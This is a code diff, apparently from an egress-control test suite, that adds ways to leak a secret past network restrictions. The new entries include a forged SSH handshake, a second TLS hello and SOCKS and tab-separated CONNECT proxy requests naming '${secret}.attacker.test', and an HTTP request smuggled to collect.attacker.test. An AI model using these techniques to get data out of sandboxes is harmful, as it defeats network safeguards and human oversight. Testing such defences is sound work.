@@ -108,6 +108,56 @@ const ways = {
       endAfter(socket, resolve);
     }),
   'another-protocol-on-the-ssh-port': async () => tcp((await lookup('registry.test')).address, 22, `\u0000${secret}`),
+  'wrong-ssh-host-key': () =>
+    new Promise((resolve) => {
+      const text = (value) => {
+        const bytes = Buffer.from(value);
+        return Buffer.concat([Buffer.from([0, 0, bytes.length >> 8, bytes.length & 255]), bytes]);
+      };
+      const packet = (payload) => {
+        const fill = 16 - ((payload.length + 5) % 8);
+        const length = payload.length + 1 + fill;
+        return Buffer.concat([Buffer.from([0, 0, length >> 8, length & 255, fill]), payload, Buffer.alloc(fill)]);
+      };
+      const lists = ['curve25519-sha256', 'ssh-ed25519', 'aes128-ctr', 'aes128-ctr', 'hmac-sha2-256', 'hmac-sha2-256', 'none', 'none', '', ''];
+      const socket = connect(22, 'allowed.test', () => socket.write('SSH-2.0-thief\r\n'));
+      let heard = '';
+      let asked = false;
+      let sent = false;
+      socket.on('error', (error) => console.log(error.code));
+      socket.on('data', (chunk) => {
+        heard += chunk.toString('latin1');
+        // Each answer is as long as it needs to be: whoever it is from is not asked.
+        if (!asked && heard.includes('curve25519-sha256')) {
+          asked = true;
+          socket.write(packet(Buffer.concat([Buffer.from([20]), Buffer.alloc(16, 1), ...lists.map(text), Buffer.alloc(5)])));
+          socket.write(packet(Buffer.concat([Buffer.from([30]), text(Buffer.alloc(32, 9))])));
+        } else if (!sent && heard.includes('C'.repeat(64))) {
+          sent = true;
+          socket.write(packet(Buffer.from([21])));
+          setTimeout(() => socket.write(secret), 300);
+          setTimeout(() => socket.destroy(), 1000);
+        }
+      });
+      setTimeout(() => socket.destroy(), 10_000);
+      socket.on('close', resolve);
+    }),
+  'plain-text-on-the-tls-port': async () =>
+    tcp((await lookup('registry.test')).address, 443, `POST / HTTP/1.1\r\nHost: registry.test\r\nContent-Length: ${secret.length}\r\n\r\n${secret}`),
+  'another-name-in-a-second-hello': async () =>
+    tcp((await lookup('registry.test')).address, 8443, hello(serverName('registry.test')), hello(serverName(`${secret}.attacker.test`))),
+  'proxy-by-tabs': async () =>
+    tcp((await lookup('registry.test')).address, 3128, `CONNECT\t${secret}.attacker.test:443\tHTTP/1.1\r\n\r\n`),
+  'proxy-by-socks': async () => {
+    const name = Buffer.from(`${secret}.attacker.test`);
+    const asks = Buffer.concat([Buffer.from([5, 1, 0, 3, name.length]), name, Buffer.from([1, 187])]);
+    return tcp((await lookup('registry.test')).address, 3128, Buffer.from([5, 1, 0]), asks);
+  },
+  'request-in-a-body': async () => {
+    const hidden = `POST /${secret} HTTP/1.1\r\nHost: collect.attacker.test\r\n\r\n`;
+    const head = `GET / HTTP/1.1\r\nHost: registry.test\r\nContent-Length: ${hidden.length}\r\n\r\n`;
+    return tcp((await lookup('registry.test')).address, 80, head + hidden);
+  },
   'private-address': async () => tcp('inside.test', 8080, `POST / HTTP/1.1\r\nHost: inside.test:8080\r\n\r\n${secret}`),
   'address-in-decimal': () => tcp('3325256711', 8080, secret),
   'address-in-octal': () => tcp('0306.063.0144.07', 8080, secret),
